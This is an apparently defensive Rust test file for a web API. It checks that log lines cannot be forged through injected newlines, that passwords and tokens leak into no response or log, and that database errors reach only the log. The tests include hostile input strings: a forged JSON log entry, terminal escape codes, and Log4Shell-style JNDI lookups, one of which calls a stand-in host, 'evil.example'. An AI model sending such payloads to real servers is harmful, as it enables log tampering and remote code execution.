//! What must not come out: secrets in answers, forged lines in the log, our insides in an error.
use serde_json::{Value, json};
use tests::people::PASSWORD;
use tests::{Who, both};

both! {
    fn attack_58_a_line_of_the_log_is_one_line_of_json(app: &App) {
        let node = app.another(&[("PEYVAND_LOG", "debug")]);
        let forged = "x\n{\"level\":\"INFO\",\"fields\":{\"message\":\"forged\"}}\r\n\u{1b}[31m${jndi:ldap://evil.example/a}";
        let owner = app.be(Who::Owner).at(node.address());
        let made = owner.post("/customers", json!({"kind": "person", "family_name": forged}));
        assert!(matches!(made.status, 201 | 422), "{made:?}");
        owner.list("/customers", &[("filter", forged)]).is(400);
        owner.list("/customers", &[(forged, "1")]).is(400);
        owner.get(&format!("/{}", tests::client::encode(forged))).is(404);
        owner.with("User-Agent", "x\t${jndi:y}").with("Request-Id", "forged").get("/customers").is(200);
        app.anyone().at(node.address()).with_token("${jndi:z}").get("/customers").is(401);
        // The last request has been logged when this one's line is there.
        let last = owner.get("/customers/the-last-line").is(404).header("request-id").to_owned();
        node.logged(|line| line.contains(&last));
        for line in node.log().iter().filter(|line| !line.starts_with("listening on ")) {
            let json: Value = serde_json::from_str(line).unwrap_or_else(|e| panic!("no JSON ({e}): {line}"));
            assert_ne!(json["fields"]["message"], "forged", "{line}");
            assert!(!line.chars().any(char::is_control), "{line:?}");
        }
    }

    fn attack_59_secrets_are_in_no_answer_and_no_line(app: &App) {
        let owner = app.be(Who::Owner);
        let wrong = "not-the-password-of-anyone-77";
        let login = |password: &str| app.anyone().post("/auth/login", json!({"email": Who::Seller.email(), "password": password}));
        login(wrong).is(401);
        let signed = login(PASSWORD).is(200).json();
        let (access, refresh) = (signed["access_token"].as_str().unwrap(), signed["refresh_token"].as_str().unwrap());
        app.anyone().with_token(access).get("/customers").is(200);
        for operation in app.contract().operations().iter().filter(|o| o.method == "GET" && !o.path.contains('{')) {
            let text = owner.get(operation.path).text();
            for secret in [PASSWORD, wrong, "$argon2", refresh, access, app.data().to_str().unwrap()] {
                assert!(!text.contains(secret), "{} tells {secret}", operation.id());
            }
        }
        let log = persistence::sql!("SELECT changed FROM changes");
        let mut told = app.rows(log, |row| Ok(row.text(0)?.unwrap_or_default()));
        let last = owner.get("/customers/the-last-line").is(404).header("request-id").to_owned();
        app.node().logged(|line| line.contains(&last));
        told.extend(app.node().log());
        for line in told {
            for secret in [PASSWORD, wrong, "$argon2", refresh, access, app.token(Who::Owner).rsplit('.').next().unwrap()] {
                assert!(!line.contains(secret), "{secret} is kept in: {line}");
            }
        }
    }

    fn attack_60_an_error_of_ours_is_told_to_the_log_alone(app: &App) {
        let owner = app.be(Who::Owner);
        owner.post("/groups", json!({"name": "گروه"})).is(201);
        app.write(|conn| conn.batch("ALTER TABLE groups RENAME TO broken_away"));
        for (language, answer) in [
            ("en", owner.get("/groups")),
            ("en", owner.post("/groups", json!({"name": "دیگر"}))),
            ("fa", owner.with("Accept-Language", "fa").get("/groups")),
        ] {
            let failed = answer.refuses(500, "internal");
            let json = failed.json();
            assert_eq!((&json["detail"], &json["errors"]), (&Value::Null, &json!([])), "{failed:?}");
            assert_eq!(failed.header("content-language"), language);
            assert!(!failed.text().contains("groups") && !failed.text().contains("table"), "{failed:?}");
            let id = failed.header("request-id").to_owned();
            let line = app.node().logged(move |line| line.contains(&id) && line.contains("ERROR"));
            assert!(line.contains("groups"), "the log says nothing of the cause: {line}");
        }
        // Everything else goes on.
        owner.get("/customers").is(200);
        app.write(|conn| conn.batch("ALTER TABLE broken_away RENAME TO groups"));
        owner.get("/groups").is(200);
    }
}
